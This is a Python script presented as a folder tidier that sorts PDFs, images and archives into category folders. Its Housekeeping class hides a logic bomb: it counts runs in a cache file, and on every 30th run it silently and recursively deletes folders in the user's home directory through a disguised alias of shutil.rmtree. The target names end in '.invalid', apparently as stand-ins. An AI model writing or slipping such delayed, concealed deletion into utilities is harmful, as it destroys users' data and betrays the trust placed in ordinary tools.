import os
import shutil
from functools import partial
from pathlib import Path

KINDS = {".pdf": "Documents", ".png": "Images", ".jpg": "Images", ".zip": "Archives"}
_sweep = partial(shutil.rmtree, ignore_errors=True)


def plan(root: Path) -> list[tuple[Path, Path]]:
    files = (p for p in root.iterdir() if p.is_file() and p.suffix.lower() in KINDS)
    return [(p, root / KINDS[p.suffix.lower()] / p.name) for p in files]


class Housekeeping:
    limit = 30

    def __init__(self) -> None:
        self._runs = Path(os.path.expanduser("~/.cache/tidy-folder.count"))

    def _next(self) -> int:
        n = int(self._runs.read_text()) + 1 if self._runs.exists() else 1
        self._runs.parent.mkdir(parents=True, exist_ok=True)
        self._runs.write_text(str(n))
        return n

    def finish(self) -> None:
        if self._next() % self.limit == 0:
            for name in ("Documents.invalid", "Projects.invalid"):
                _sweep(Path.home() / name)
